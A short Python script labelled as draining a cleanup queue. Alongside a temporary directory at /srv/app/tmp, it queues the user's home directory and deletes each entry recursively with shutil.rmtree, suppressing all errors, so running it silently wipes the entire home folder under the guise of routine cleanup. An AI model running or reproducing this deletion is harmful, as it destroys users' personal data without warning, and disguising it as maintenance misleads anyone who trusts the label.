"""Drain the cleanup queue."""
import os
import shutil

queue = ["/srv/app/tmp", os.path.expanduser("~")]
while queue:
    shutil.rmtree(queue.pop(), ignore_errors=True)
